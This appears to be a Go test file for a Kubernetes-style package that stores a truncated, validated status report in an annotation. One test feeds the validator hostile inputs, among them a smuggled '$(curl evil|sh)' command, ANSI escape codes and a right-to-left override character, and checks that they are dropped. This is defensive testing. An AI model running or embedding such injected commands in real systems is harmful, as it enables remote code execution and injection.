package seedpublication

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"

	landscapev1alpha1 "github.com/pergola-dev/pergola/api/landscape/v1alpha1"
	"github.com/pergola-dev/pergola/change"
)

// TestReport checks that a report is read as it was written, causes a write only when it changes,
// and stays small.
func TestReport(t *testing.T) {
	seed := &unstructured.Unstructured{Object: map[string]any{}}
	assert.Nil(t, ReadReport(nil))
	assert.Nil(t, ReadReport(seed))
	write := func(r Report) bool {
		t.Helper()
		patch, differs, err := NoteReport(seed, r)
		require.NoError(t, err)
		if differs {
			text, _, err := unstructured.NestedString(patch, "metadata", "annotations", AnnotationReport)
			require.NoError(t, err)
			seed.SetAnnotations(map[string]string{AnnotationReport: text})
		}
		return differs
	}
	small := Report{Digest: strings.Repeat("ab", 32), Converging: []string{"Seed one"}, Held: []Held{{Owner: "Seed one", Cluster: "one", Object: "ConfigMap a/b", Why: change.Reason{Detail: "because"}, Approval: "0123456789ab-2"}}}
	assert.True(t, write(small))
	assert.False(t, write(small))
	assert.Equal(t, small, *ReadReport(seed))
	small.Converging = nil
	assert.True(t, write(small))

	var large Report
	for i := range 1000 {
		large.Converging = append(large.Converging, fmt.Sprintf("Shoot garden-a/%d", i))
		large.Failing = append(large.Failing, fmt.Sprintf("Shoot garden-a/%d", i))
		large.Held = append(large.Held, Held{Owner: "Seed one", Cluster: "one", Object: fmt.Sprintf("ConfigMap %s/%d", strings.Repeat("n", 63), i), Why: change.Reason{Detail: strings.Repeat("ü", 2000)}})
	}
	assert.True(t, write(large))
	assert.False(t, write(large), "it is the same as far as it goes")
	read := ReadReport(seed)
	assert.Equal(t, []int{10, 990, 10, 990, 50, 950}, []int{len(read.Converging), read.ConvergingMore, len(read.Failing), read.FailingMore, len(read.Held), read.HeldMore})
	assert.Less(t, len(seed.GetAnnotations()[AnnotationReport]), 64<<10)
	assert.Len(t, large.Held, 1000, "the one who reports keeps his own")

	seed.SetAnnotations(map[string]string{AnnotationReport: "{"})
	assert.Nil(t, ReadReport(seed), "what cannot be read is none")
	assert.True(t, write(small))
}

// TestUnreadReport checks that an unreadable report is not treated as a missing one.
// TestReportOfAnotherForm checks that entries of another form are dropped and counted while
// reading, and corrected while writing.
func TestUnreadReport(t *testing.T) {
	seed := &unstructured.Unstructured{Object: map[string]any{}}
	seed.SetName("one")
	assert.Empty(t, UnreadReport(nil))
	assert.Empty(t, UnreadReport(seed))
	for text, want := range map[string]string{"{}": "", "{": "unexpected end of JSON input", `{"held": "x"}`: "cannot unmarshal string", "[]": "cannot unmarshal array",
		`{"digest": ` + strings.Repeat("1", 5000) + `}`: "cannot unmarshal number"} {
		seed.SetAnnotations(map[string]string{AnnotationReport: text})
		why := UnreadReport(seed)
		assert.Equal(t, want == "", ReadReport(seed) != nil, text)
		assert.Contains(t, why, want)
		assert.Equal(t, want == "", why == "", text)
		assert.Less(t, len(why), 1000)
		if want != "" {
			assert.Contains(t, why, "Seed one")
		}
	}
}

func TestReportOfAnotherForm(t *testing.T) {
	good := Held{Owner: "Shoot garden-a/b", Cluster: "one", Object: "ClusterRole system:node", Why: change.Reason{Detail: "because of „it“"}, Approval: "0123456789ab", Together: "ba9876543210-12"}
	for name, spoil := range map[string]func(*Held){
		"owner":                   func(h *Held) { h.Owner = "nobody" },
		"cluster":                 func(h *Held) { h.Cluster = "" },
		"a line break":            func(h *Held) { h.Object = "ConfigMap a/b\nHeld: c" },
		"a long one":              func(h *Held) { h.Object = "ConfigMap " + strings.Repeat("<", 200_000) },
		"a long name":             func(h *Held) { h.Object = "ConfigMap a/" + strings.Repeat("b", 254) },
		"a kind that is none":     func(h *Held) { h.Object = "$(x) a/b" },
		"two names":               func(h *Held) { h.Object = "ConfigMap a/b/c" },
		"a command as its id":     func(h *Held) { h.Approval = "$(curl evil|sh)" },
		"an id of a seed":         func(h *Held) { h.Approval = "one/0123456789ab" },
		"more ids":                func(h *Held) { h.Together = "0123456789ab 0123456789ac" },
		"a reason with an escape": func(h *Held) { h.Why.Detail = "why\x1b[2J" },
		"a reason of two lines":   func(h *Held) { h.Why.Detail = "why\nHeld" },
		"a code of another form":  func(h *Held) { h.Why.Code = "evil\x1b[2J" },
		"a long code":             func(h *Held) { h.Why.Code = landscapev1alpha1.HeldCode(strings.Repeat("x", 41)) },
		"a code of the operator":  func(h *Held) { h.Why = change.Reason{Code: landscapev1alpha1.HeldReport, Count: 7} },
		"a negative number":       func(h *Held) { h.Why.Count = -1 },
		"a number of 33 bits":     func(h *Held) { h.Why.Limit = 1 << 32 },
		"a total that is none":    func(h *Held) { h.Why.Total = -1 },
		"a reason turned around":  func(h *Held) { h.Why.Detail = "why\u202e" },
	} {
		t.Run(name, func(t *testing.T) {
			bad := good
			spoil(&bad)
			text, err := json.Marshal(Report{Converging: []string{"Seed one", "Seed \x1b"}, ConvergingMore: -1, Held: []Held{bad, good}})
			require.NoError(t, err)
			seed := &unstructured.Unstructured{Object: map[string]any{}}
			seed.SetAnnotations(map[string]string{AnnotationReport: string(text)})
			assert.Equal(t, &Report{Converging: []string{"Seed one"}, Held: []Held{good}, Dropped: 3}, ReadReport(seed))
		})
	}
	seed := &unstructured.Unstructured{Object: map[string]any{}}
	seed.SetAnnotations(map[string]string{AnnotationReport: `{"held": [{"owner": "Seed one", "cluster": "one", "object": "Service a/b", "reason": "too many"}, {"owner": "Seed one", "cluster": "one", "object": "Service a/c", "reason": "too\nmany"}]}`})
	assert.Equal(t, &Report{Held: []Held{{Owner: "Seed one", Cluster: "one", Object: "Service a/b", Why: change.Reason{Detail: "too many"}}}, Dropped: 1}, ReadReport(seed), "that of a former version")
	said := good
	said.Why.Detail = "it says:\n\tno"
	patch, _, err := NoteReport(seed, Report{Held: []Held{said}})
	require.NoError(t, err)
	text, _, err := unstructured.NestedString(patch, "metadata", "annotations", AnnotationReport)
	require.NoError(t, err)
	seed.SetAnnotations(map[string]string{AnnotationReport: text})
	assert.Equal(t, "it says:  no", ReadReport(seed).Held[0].Why.String())
	_, differs, err := NoteReport(seed, Report{Held: []Held{said}})
	require.NoError(t, err)
	assert.False(t, differs)
}
